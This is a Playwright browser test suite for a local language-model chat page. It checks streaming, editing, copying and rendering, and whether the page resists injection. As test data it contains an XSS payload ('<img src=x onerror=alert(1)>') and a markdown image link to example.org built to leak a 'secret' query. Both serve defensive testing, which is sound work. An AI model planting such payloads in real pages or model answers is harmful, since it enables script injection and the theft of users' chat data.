"""The page in a real browser. Needs Debian's chromium and playwright; marker `browser`."""

from __future__ import annotations

import dataclasses
import time
from collections.abc import Iterator

import pytest
from fastapi import FastAPI
from playwright.sync_api import Browser, Dialog, Page, Request, Route, expect, sync_playwright

from appliance.client import EngineState
from appliance.ui.app import mount_ui
from tests.fake_client import DETAILS, FakeEngineClient
from tests.ui.serving import serve

pytestmark = pytest.mark.browser

HOSTILE = "<I am x> <think>a</think> #include <stdio.h> <img src=x onerror=alert(1)>"
ARGUMENTS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture
def client() -> FakeEngineClient:
    return FakeEngineClient([list("Hello.")])


@pytest.fixture
def url(client: FakeEngineClient) -> Iterator[str]:
    with serve(lambda: mount_ui(FastAPI(), client)) as url:
        yield url


@pytest.fixture
def page(browser: Browser, url: str) -> Iterator[Page]:
    """A fresh page. Fails the test for requests to other hosts, dialogs, script errors and errors on the console."""
    faults: list[str] = []

    def route(route: Route, request: Request) -> None:
        if request.url.startswith((url, "data:", "blob:")):
            route.continue_()
        else:
            faults.append(f"request to {request.url}")
            route.abort()

    def refuse(dialog: Dialog) -> None:
        faults.append(f"dialog {dialog.message}")
        dialog.dismiss()

    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    context.route("**/*", route)
    page = context.new_page()
    page.on("dialog", refuse)
    page.on("pageerror", lambda error: faults.append(f"script error {error}"))
    page.on("console", lambda line: faults.append(f"console {line.text}") if line.type == "error" else None)
    page.goto(url)
    expect(page.locator("#status")).to_contain_text("Ready")
    yield page
    context.close()
    assert faults == []


def ask(page: Page, text: str) -> None:
    page.locator("#message textarea").fill(text)
    page.keyboard.press("Enter")


def answers(page: Page) -> list[str]:
    return page.locator("#chat .bot-row .bot.message").all_inner_texts()


def wait_for_answers(page: Page, count: int) -> None:
    """Until `count` answers have their line of numbers and the page takes the next message."""
    expect(page.locator("#chat .answer-note:not(.answer-waiting)")).to_have_count(count, timeout=15_000)
    expect(page.locator("#message .submit-button")).to_be_visible()


def test_a_streamed_answer_ends_with_its_numbers(page: Page, client: FakeEngineClient) -> None:
    client.answers, client.delay = [["Streaming ", *["word "] * 60, "done."]], 0.03
    ask(page, "Talk to me")
    expect(page.locator("#chat .bot.message")).to_contain_text("Streaming")
    assert "done." not in answers(page)[0]
    expect(page.locator("#message textarea")).to_have_value("")
    wait_for_answers(page, 1)
    assert "done." in answers(page)[0]
    expect(page.locator("#chat .answer-note")).to_contain_text("62 tokens")
    expect(page.locator("#chat .answer-note")).to_contain_text("tokens/s")
    expect(page.locator("#status")).to_contain_text("fake/model-4bit")


def test_stop_keeps_the_text_aborts_and_goes_on(page: Page, client: FakeEngineClient) -> None:
    client.answers, client.delay = [["word "] * 3000, ["second"], ["third"]], 0.02
    ask(page, "Talk")
    expect(page.locator("#chat .bot.message")).to_contain_text("word word word")
    page.locator("#message .stop-button").click()
    wait_for_answers(page, 1)
    assert "word word word" in answers(page)[0]
    expect(page.locator("#chat .answer-note")).to_contain_text("stopped")
    assert client.aborted == [client.submitted[0].request_id]
    assert client.free_blocks == client.info.num_kv_blocks
    expect(page.locator(".toast-body")).to_have_count(0)

    ask(page, "Go on")
    wait_for_answers(page, 2)
    assert "word word word" in client.submitted[1].prompt
    page.get_by_role("button", name="Retry").click()
    expect(page.locator("#chat .bot.message").last).to_contain_text(
        "third" if "second" in answers(page)[1] else "second"
    )
    wait_for_answers(page, 2)
    assert len(client.submitted) == 3
    assert client.submitted[2].prompt == client.submitted[1].prompt
    expect(page.locator(".toast-body")).to_have_count(0)


def test_the_model_is_described_in_the_settings(page: Page, client: FakeEngineClient) -> None:
    client.info = dataclasses.replace(client.info, details=DETAILS)
    page.reload()
    page.locator("#settings .toggle-button").click()
    page.get_by_role("button", name="About this model").click()
    expect(page.locator("#about .about")).to_contain_text("GPTQ 4-bit, group 128, act-order")
    expect(page.locator("#about .about")).to_contain_text("passed: the weights of 2 layers look right")


def test_text_in_angle_brackets_is_shown_not_executed(page: Page, client: FakeEngineClient) -> None:
    client.answers = [[HOSTILE]]
    ask(page, HOSTILE)
    wait_for_answers(page, 1)
    assert HOSTILE in answers(page)[0]
    assert page.locator("#chat .user.message").inner_text() == HOSTILE
    expect(page.locator("#chat img")).to_have_count(0)
    page.locator("#chat .message-buttons-left").get_by_label("Copy message").click()
    assert page.evaluate("navigator.clipboard.readText()") == HOSTILE
    ask(page, "Again")
    wait_for_answers(page, 2)
    assert client.submitted[1].prompt.count(HOSTILE) == 2


def test_copying_gives_the_raw_text_without_a_secure_context(page: Page, client: FakeEngineClient) -> None:
    page.add_init_script("delete Navigator.prototype.clipboard")
    page.reload()
    client.answers = [[HOSTILE]]
    ask(page, "Show")
    wait_for_answers(page, 1)
    page.locator("#chat .message-buttons-left").get_by_label("Copy message").click()
    page.locator("#message textarea").focus()
    page.keyboard.press("Control+V")
    expect(page.locator("#message textarea")).to_have_value(HOSTILE)


def test_an_image_in_an_answer_does_not_carry_the_chat_away(
    browser: Browser, url: str, client: FakeEngineClient
) -> None:
    client.answers = [["![x](http://example.org/?q=secret) done"]]
    asked: list[str] = []
    context = browser.new_context()
    context.route("http://example.org/**", lambda route: asked.append(route.request.url))
    page = context.new_page()
    page.goto(url)
    ask(page, "Leak")
    wait_for_answers(page, 1)
    assert "done" in answers(page)[0]
    context.close()
    assert asked == []


def test_markdown_code_and_maths_are_rendered(page: Page, client: FakeEngineClient) -> None:
    client.answers = [["<think>hm</think>Costs $5 or $10, $a<b$.\n\n```python\nx = '<b>'\n```\n\n**bold**"]]
    ask(page, "Show")
    wait_for_answers(page, 1)
    expect(page.locator("#chat .katex")).to_have_count(1)
    expect(page.locator("#chat .bot.message")).to_contain_text("Costs $5 or $10")
    expect(page.locator("#chat strong")).to_have_text("bold")
    expect(page.locator("#chat pre code .token").first).to_be_visible()
    expect(page.locator("#chat details.reasoning")).to_contain_text("Reasoning")
    page.get_by_title("copy", exact=True).click()
    assert page.evaluate("navigator.clipboard.readText()").strip() == "x = '<b>'"
    page.locator("#chat .message-buttons-left").get_by_label("Copy message").click()
    assert page.evaluate("navigator.clipboard.readText()") == client.answers[0][0]


def edit(page: Page, index: int, text: str) -> str:
    """Write the index-th message of the user anew; returns what was there to edit."""
    page.locator("#chat .message-buttons-right").nth(index).get_by_label("Edit").click()
    area = page.locator("#chat .edit-textarea")
    before = area.input_value()
    area.fill(text)
    page.locator("#chat").get_by_label("Submit").click()
    return before


def test_an_edited_message_is_answered_anew(page: Page, client: FakeEngineClient) -> None:
    client.answers = [["first"], ["second"], ["third"]]
    ask(page, "What is <b> for $x$?")
    wait_for_answers(page, 1)
    ask(page, "And then?")
    wait_for_answers(page, 2)
    page.locator("#message textarea").fill("a draft")
    assert edit(page, 0, "What is <i>?") == "What is <b> for $x$?"
    wait_for_answers(page, 1)
    assert "third" in answers(page)[0]
    assert page.locator("#chat .user.message").all_inner_texts() == ["What is <i>?"]
    assert client.submitted[2].prompt == "<user>What is <i>?\n<assistant>"
    expect(page.locator("#message textarea")).to_have_value("a draft")


def test_the_sampling_panel_reaches_the_engine_and_is_reset(page: Page, client: FakeEngineClient) -> None:
    client.info = dataclasses.replace(client.info, default_sampling={"temperature": 0.6, "top_k": 20})
    page.reload()
    page.locator("#settings .toggle-button").click()
    expect(page.get_by_label("Temperature").first).to_have_value("0.6")
    page.get_by_label("Top k").fill("3")
    page.get_by_label("Seed").fill("42")
    page.get_by_label("Longest answer, in tokens").fill("2")
    page.get_by_label("Longest answer, in tokens").press("Tab")
    ask(page, "One")
    wait_for_answers(page, 1)
    page.get_by_role("button", name="Reset to the model's defaults").click()
    expect(page.get_by_label("Top k")).to_have_value("20")
    expect(page.get_by_label("Seed")).to_have_value("")
    ask(page, "Two")
    wait_for_answers(page, 2)
    found = [(p.temperature, p.top_k, p.seed, p.max_tokens) for p in (request.params for request in client.submitted)]
    assert found == [(0.6, 3, 42, 2), (0.6, 20, None, None)]


def test_undo_gives_the_question_back(page: Page, client: FakeEngineClient) -> None:
    ask(page, "What is <b>?")
    wait_for_answers(page, 1)
    page.get_by_role("button", name="Undo").click()
    expect(page.locator("#message textarea")).to_have_value("What is <b>?")
    expect(page.locator("#chat .message-row")).to_have_count(0)


def test_an_example_is_asked_with_one_click(page: Page, client: FakeEngineClient) -> None:
    example = page.locator("#chat button.example").first
    text = example.inner_text()
    example.click()
    wait_for_answers(page, 1)
    assert text in client.submitted[0].prompt


def test_clearing_mid_answer_leaves_an_empty_chat(page: Page, client: FakeEngineClient) -> None:
    client.answers, client.delay = [["word "] * 3000], 0.02
    ask(page, "Talk")
    expect(page.locator("#chat .bot.message")).to_contain_text("word word")
    page.get_by_role("button", name="Clear").click()
    expect(page.locator("#message .submit-button")).to_be_visible()
    expect(page.locator("#chat .message-row")).to_have_count(0)
    assert len(client.aborted) == 1


def test_closing_the_page_aborts(browser: Browser, url: str, client: FakeEngineClient) -> None:
    client.answers, client.delay = [["word "] * 3000], 0.02
    page = browser.new_page()
    page.goto(url)
    expect(page.locator("#status")).to_contain_text("Ready")
    ask(page, "Talk")
    expect(page.locator("#chat .bot.message")).to_contain_text("word word")
    page.close()
    deadline = time.monotonic() + 5
    while client.running and time.monotonic() < deadline:
        time.sleep(0.05)
    assert len(client.aborted) == 1


def test_the_page_follows_the_engine_and_survives_its_errors(page: Page, client: FakeEngineClient) -> None:
    client.state = EngineState.LOADING
    page.reload()
    expect(page.locator("#status")).to_contain_text("Loading the model")
    ask(page, "One")
    expect(page.locator("#chat .answer-error")).to_contain_text("still being loaded")
    client.state = EngineState.READY
    expect(page.locator("#status")).to_contain_text("Ready", timeout=5000)
    ask(page, "Two")
    wait_for_answers(page, 2)
    assert "Hello." in answers(page)[1]


def test_nothing_is_wider_than_a_phone(page: Page, client: FakeEngineClient) -> None:
    page.set_viewport_size({"width": 360, "height": 740})
    client.answers = [["```\n" + "x = 1; " * 60 + "\n```\n" + "w" * 300]]
    ask(page, "Wide")
    wait_for_answers(page, 1)
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    box = page.locator("#message").bounding_box()
    assert box is not None
    assert box["x"] + box["width"] <= 360


def test_ten_tabs_of_one_browser_are_all_answered(browser: Browser, url: str, client: FakeEngineClient) -> None:
    """A browser opens six connections to a host in all its tabs: none may be held by a page that only waits."""
    context = browser.new_context()
    pages = [context.new_page() for _ in range(10)]
    for page in pages:
        page.goto(url)
        expect(page.locator("#status")).to_contain_text("Ready")
    for page in pages:
        ask(page, "Hello?")
    for page in pages:
        expect(page.locator("#chat")).to_contain_text("tokens", timeout=20_000)
    context.close()
    assert len(client.submitted) == 10
